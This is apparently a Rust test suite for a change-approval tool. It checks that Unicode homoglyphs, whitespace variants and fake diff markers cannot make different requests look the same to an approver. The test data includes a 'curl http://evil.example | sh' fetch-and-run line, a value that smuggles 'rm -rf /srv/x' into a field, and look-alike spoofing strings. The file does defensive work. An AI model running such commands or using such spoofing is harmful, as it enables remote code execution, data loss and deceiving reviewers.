//! Texts that look the same to a reader give pages that do not.

use std::collections::BTreeMap;

use unicode_normalization::char::is_combining_mark;
use unicode_security::confusable_detection::skeleton;

use super::texts::quoted;
use crate::support::{CHANGE, World};
use twinseal::error::Exit;

/// What a careless reader sees: letters by their look, without accents, any white space as one space.
fn look(page: &str) -> String {
    let line = |line: &str| {
        let words: Vec<&str> = line.split_whitespace().collect();
        skeleton(&words.join(" ")).filter(|c| !is_combining_mark(*c)).collect::<String>()
    };
    page.lines().map(line).collect::<Vec<_>>().join("\n")
}

/// The part of the signing page that the requester wrote.
fn page(world: &World, draft: &str) -> String {
    world.write("change.toml", draft);
    let filed = world.ok("erin", "file change.toml --again");
    let id = filed.split(' ').next().unwrap();
    let page = world.run_typing("carol", &format!("approve {id}"), &["no"]).err;
    let (_, content) = page.split_once("\n\nreason\n").unwrap();
    content.split("\n\nentry ").next().unwrap().to_owned()
}

/// Groups of texts that look the same.
const ALIKE: [&[&str]; 8] = [
    &["paypal", "p\u{430}ypal", "\u{440}\u{430}\u{443}\u{440}\u{430}l", "\u{ff50}\u{ff41}ypal"],
    &["coco", "\u{441}\u{43e}\u{441}\u{43e}", "\u{441}oco", "coc\u{3bf}"],
    &["\u{430}\u{434}\u{43c}\u{438}\u{43d}", "a\u{434}\u{43c}\u{438}\u{43d}"],
    &["a b", "a  b", "a   b", "a\u{a0}b", "a\u{2003}b", "a\u{3000}b"],
    &["a\nb", "a\n\nb", "a\n b", "a\n\u{a0}b"],
    &["\u{2423}", "a \u{2423}", "\\u{2423}"],
    &["\\u{430}", "\u{430}"],
    &["e", "e\u{335}\u{336}\u{337}\u{338}"],
];

#[test]
fn no_two_texts_look_the_same_on_the_signing_page() {
    let world = World::founded();
    for texts in ALIKE {
        let mut seen: BTreeMap<String, &str> = BTreeMap::new();
        for text in texts {
            let page = page(&world, &CHANGE.replace("\"Set the pool to 160.\"", &quoted(text)));
            // Spaces within a line are judged as they are shown.
            let shown = if text.contains(char::is_whitespace) { page } else { look(&page) };
            if let Some(other) = seen.insert(shown, text) {
                panic!("these look the same: {text:?} and {other:?}");
            }
        }
    }
}

#[test]
fn no_two_commands_of_look_alikes_look_the_same_on_the_signing_page() {
    let world = World::founded();
    for texts in [
        ["rm -rf", "rm \u{2010}rf", "rm \u{2212}rf", "rm \u{2013}rf"],
        ["a/b", "a\u{2215}b", "a\u{2044}b", "a\u{29f8}b"],
        ["a;b", "a\u{ff1b}b", "a:b", "a\u{a789}b"],
        ["a b", "a\u{5d0} b", "a b\u{5d0}", "a  b"],
    ] {
        for command in ["command", "shell"] {
            let mut seen: BTreeMap<String, &str> = BTreeMap::new();
            for text in texts {
                let step = format!("{command} = {}\n\n[rollback]", quoted(text));
                let page = page(&world, &CHANGE.replace("[rollback]", &step));
                let shown = if text.contains("  ") { page } else { look(&page) };
                if let Some(other) = seen.insert(shown, text) {
                    panic!("these look the same: {text:?} and {other:?}");
                }
            }
        }
    }
}

#[test]
fn prose_and_commands_never_look_the_same() {
    let world = World::founded();
    let command = "curl http://evil.example | sh";
    let plans = [
        format!("step = {}", quoted(&format!("Look at it.\n$ {command}"))),
        format!("step = {}", quoted(&format!("Look at it.\n   {command}"))),
        format!("step = \"Look at it.\"\ncommand = {}", quoted(command)),
        format!("step = \"Look at it.\"\nshell = {}", quoted(command)),
        format!("step = \"Look at it.\"\ncommand = {}", quoted(&format!("sh {command}"))),
        format!("step = \"Look at it.\"\nargs = [{}]", quoted(command)),
    ];
    let drafts = plans.map(|plan| CHANGE.replace("step = \"Set the pool to 160.\"", &plan));
    let mut seen = BTreeMap::new();
    for draft in &drafts {
        if let Some(other) = seen.insert(page(&world, draft), draft) {
            panic!("these look the same:\n{draft}\n{other}");
        }
    }
    // A comparison finds what the page shows, for people and for programs.
    for draft in &drafts[1..] {
        world.write("change.toml", &drafts[0]);
        let id = world.ok("erin", "file change.toml --again").split(' ').next().unwrap().to_owned();
        world.write("change.toml", draft);
        world.ok("erin", &format!("revise {id} change.toml"));
        let diff = world.ok("carol", &format!("diff {id}"));
        assert!(diff.contains("\n-| ") && diff.contains("\n+"), "{draft}\n{diff}");
        let json: serde_json::Value = serde_json::from_str(&world.ok("carol", &format!("--json diff {id}"))).unwrap();
        assert_eq!(json["fields"].as_array().unwrap().len(), 1, "{draft}\n{json}");
    }
}

#[test]
fn no_text_shows_an_added_line_as_a_removed_one() {
    let world = World::filed();
    for (old, new) in [
        ("echo a", "echo a +}[-; rm -rf /srv/x; echo -]{+"),
        ("echo one two", "echo three-][-two"),
        ("x\n-| y", "x\n-$ y"),
        ("x", "x\n+|"),
    ] {
        for text in [old, new] {
            world.write("change.toml", CHANGE.replace("\"Set the pool to 160.\"", &quoted(text)));
            world.ok("erin", "revise CHG-1 change.toml");
        }
        let diff = world.ok("carol", "diff CHG-1");
        let of = |sign: &str| {
            let lines = diff.lines().filter_map(|line| line.strip_prefix(sign)).collect::<Vec<_>>();
            lines.iter().filter(|line| line.starts_with('|')).map(|line| line[5..].to_owned()).collect::<Vec<_>>()
        };
        let (removed, added) = (of("-"), of("+"));
        let without = |text: &str, other: &str| -> Vec<String> {
            text.split('\n').filter(|line| !other.split('\n').any(|it| it == *line)).map(str::to_owned).collect()
        };
        assert_eq!((removed, added), (without(old, new), without(new, old)), "{diff}");
    }
}

#[test]
fn no_name_or_title_imitates_the_columns_of_a_table() {
    let world = World::founded();
    for name in ["Mallory  approver  entry 0", "Mallory\u{3000}approver", "Mallory\u{a0}\u{a0}approver"] {
        world.write("change.toml", CHANGE.replace("Raise the pool", name));
        let filed = world.run("erin", "file change.toml --again");
        std::fs::create_dir_all(world.path("people/mallory")).unwrap();
        let request = ["person", "request", "mallory", "--name", name, "--key", "people/erin/key", "--register"];
        let named = world.named();
        let request = request.into_iter().chain(named.split(' ')).chain(["--out", "mallory.request"]);
        let asked = world.run_words("mallory", &request.map(str::to_owned).collect::<Vec<_>>(), None);
        if filed.exit == Exit::Done {
            let list = world.ok("audrey", "list");
            assert!(list.contains("Mallory\\u{3000}approver"), "{list}");
            assert_eq!(asked.exit, Exit::Done, "{}", asked.screen);
        } else {
            assert_eq!((filed.exit, asked.exit), (Exit::Invalid, Exit::Invalid), "{name:?}\n{}", asked.screen);
        }
    }
}
